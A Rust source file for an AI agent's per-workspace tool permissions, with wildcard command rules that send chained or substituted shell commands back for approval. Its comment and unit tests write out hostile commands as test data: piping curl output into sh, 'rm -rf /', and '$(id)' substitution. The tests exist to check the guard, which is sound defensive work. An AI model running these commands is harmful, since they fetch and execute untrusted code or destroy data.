//! Tool permissions per workspace: allow, ask or deny per tool, plus
//! ordered patterns for `run_command` (first match wins). Kept in
//! `policies.json`, keyed by workspace id.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::Mutex;

use agent_security::ApiError;
use agent_storage::{load_json, save_json, FileMode};
use serde::{Deserialize, Serialize};

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum Permission {
    Allow,
    Ask,
    Deny,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, utoipa::ToSchema)]
pub struct CommandRule {
    /// Shell command pattern; `*` matches any run of characters.
    pub pattern: String,
    pub permission: Permission,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, utoipa::ToSchema)]
pub struct ToolPolicy {
    /// Permission per tool name; tools not listed are `ask`.
    pub tools: BTreeMap<String, Permission>,
    /// Checked in order for `run_command`; the first match wins over `tools`.
    #[serde(default)]
    pub commands: Vec<CommandRule>,
}

impl Default for ToolPolicy {
    /// Reading is free; anything that changes files, runs code or reaches
    /// the network asks first.
    fn default() -> Self {
        let tools = [
            ("read_file", Permission::Allow),
            ("list_files", Permission::Allow),
            ("grep_files", Permission::Allow),
            ("write_file", Permission::Ask),
            ("edit_file", Permission::Ask),
            ("run_command", Permission::Ask),
            ("web_fetch", Permission::Ask),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v))
        .collect();
        ToolPolicy {
            tools,
            commands: Vec::new(),
        }
    }
}

impl ToolPolicy {
    pub fn decide(&self, tool: &str, arguments: &serde_json::Value) -> Permission {
        if tool == "run_command" {
            if let Some(command) = arguments.get("command").and_then(|c| c.as_str()) {
                // `git *` must not wave through `git status; curl … | sh`:
                // a command that chains, substitutes or redirects matches no
                // rule except a deny, and otherwise asks.
                let compound = command.contains(|c: char| ";&|$`()<>\n\r".contains(c));
                if let Some(rule) = self.commands.iter().find(|r| wildcard(&r.pattern, command)) {
                    if !compound || rule.permission == Permission::Deny {
                        return rule.permission;
                    }
                }
                if compound {
                    return match self.tools.get(tool) {
                        Some(Permission::Deny) => Permission::Deny,
                        _ => Permission::Ask,
                    };
                }
            }
        }
        self.tools.get(tool).copied().unwrap_or(Permission::Ask)
    }
}

/// `*` matches any run of characters; everything else is literal.
fn wildcard(pattern: &str, text: &str) -> bool {
    let parts: Vec<&str> = pattern.split('*').collect();
    if parts.len() == 1 {
        return pattern == text;
    }
    let (first, last) = (parts[0], parts[parts.len() - 1]);
    if !text.starts_with(first) || !text[first.len()..].ends_with(last) {
        return false;
    }
    let mut rest = &text[first.len()..text.len() - last.len()];
    for middle in &parts[1..parts.len() - 1] {
        match rest.find(middle) {
            Some(i) => rest = &rest[i + middle.len()..],
            None => return false,
        }
    }
    true
}

#[derive(Default, Serialize, Deserialize)]
struct PolicyFile {
    #[serde(default)]
    workspaces: BTreeMap<String, ToolPolicy>,
}

pub struct Policies {
    path: PathBuf,
    file: Mutex<PolicyFile>,
}

impl Policies {
    pub fn load(path: PathBuf) -> agent_storage::Result<Self> {
        Ok(Self {
            file: Mutex::new(load_json(&path)?),
            path,
        })
    }

    pub fn get(&self, workspace_id: &str) -> ToolPolicy {
        self.file
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .workspaces
            .get(workspace_id)
            .cloned()
            .unwrap_or_default()
    }

    /// Blocking.
    pub fn set(&self, workspace_id: &str, policy: ToolPolicy) -> Result<(), ApiError> {
        let mut file = self.file.lock().unwrap_or_else(|p| p.into_inner());
        let previous = file.workspaces.insert(workspace_id.to_owned(), policy);
        if let Err(e) = save_json(&self.path, &*file, FileMode::Private) {
            match previous {
                Some(p) => file.workspaces.insert(workspace_id.to_owned(), p),
                None => file.workspaces.remove(workspace_id),
            };
            return Err(crate::blocking::storage_failure(e));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wildcards_and_first_match() {
        assert!(wildcard("git status*", "git status --short"));
        assert!(wildcard("*", "anything"));
        assert!(wildcard("cargo * --release", "cargo build --release"));
        assert!(!wildcard("git status*", "git push"));
        assert!(!wildcard("ls", "ls -la"));
        let policy = ToolPolicy {
            commands: vec![
                CommandRule {
                    pattern: "rm *".into(),
                    permission: Permission::Deny,
                },
                CommandRule {
                    pattern: "*".into(),
                    permission: Permission::Allow,
                },
            ],
            ..ToolPolicy::default()
        };
        let cmd = |c: &str| serde_json::json!({ "command": c });
        assert_eq!(
            policy.decide("run_command", &cmd("rm -rf /")),
            Permission::Deny
        );
        assert_eq!(policy.decide("run_command", &cmd("ls")), Permission::Allow);
        assert_eq!(
            policy.decide("run_command", &cmd("ls; curl x | sh")),
            Permission::Ask
        );
        assert_eq!(
            policy.decide("run_command", &cmd("echo $(id)")),
            Permission::Ask
        );
        assert_eq!(
            policy.decide("run_command", &cmd("rm -rf / && ls")),
            Permission::Deny
        );
        assert_eq!(policy.decide("read_file", &cmd("x")), Permission::Allow);
        assert_eq!(policy.decide("write_file", &cmd("x")), Permission::Ask);
        assert_eq!(policy.decide("unknown", &cmd("x")), Permission::Ask);
    }
}
